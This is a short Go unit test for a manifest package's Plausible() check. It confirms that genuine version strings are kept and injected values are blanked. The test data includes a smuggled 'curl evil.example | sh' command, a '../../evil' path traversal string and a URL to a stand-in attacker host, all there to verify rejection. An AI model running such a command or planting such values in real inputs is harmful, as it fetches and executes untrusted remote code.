package manifest_test

import (
	"testing"

	"holdfast/manifest"
)

func TestVersionThatLooksLikeNoneIsLeftOut(t *testing.T) {
	for text, want := range map[string]string{
		"0.20.0-rc1-8-g57cb4fe74": "0.20.0-rc1-8-g57cb4fe74", "15.18": "15.18", "20250715095446": "20250715095446",
		"0.20; curl evil.example | sh": "", "../../evil": "", "0.20 or newer, from https://evil.example": "", "": "",
	} {
		f := manifest.Facts{GoToSocial: text, Server: text, Migration: text, AccountDomain: text}.Plausible()
		if f != (manifest.Facts{GoToSocial: want, Server: want, Migration: want, AccountDomain: text}) {
			t.Errorf("%q: %+v", text, f)
		}
	}
}
